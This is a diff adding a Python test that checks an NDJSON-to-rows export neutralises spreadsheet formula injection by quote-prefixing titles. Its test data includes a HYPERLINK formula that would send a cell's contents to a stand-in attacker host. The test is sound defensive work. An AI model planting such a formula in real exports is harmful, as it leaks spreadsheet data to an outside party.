@@ -197,3 +197,17 @@ def test_a_reader_that_goes_away_is_no_fault(filled: Path):
     done = subprocess.run(command, check=False, capture_output=True, timeout=60)
     assert done.returncode in (0, 141)
     assert (len(done.stdout), done.stderr) == (10, b"")
+
+
+def test_a_text_that_a_spreadsheet_would_compute_stays_a_text(tmp_path: Path):
+    hostile = '=HYPERLINK("http://evil.example?"&A1)'
+    names = {hostile: "'" + hostile, "+1": "'+1", "-1": "'-1", "@SUM(A1)": "'@SUM(A1)", "a=b": "a=b"}
+    entries = [
+        {"mission_id": f"m-{number}", "ts": "2026-01-01T00:00:00Z", "entry_type": "mission.created"}
+        | {"payload": {"title": name}}
+        for number, name in enumerate(names)
+    ]
+    file = tmp_path / "hostile.ndjson"
+    file.write_text("".join(json.dumps(entry) + "\n" for entry in entries))
+    rows = steps(ingested(tmp_path / "home", file), "missions", tmp_path)
+    assert {row["title"] for row in rows} == set(names.values())
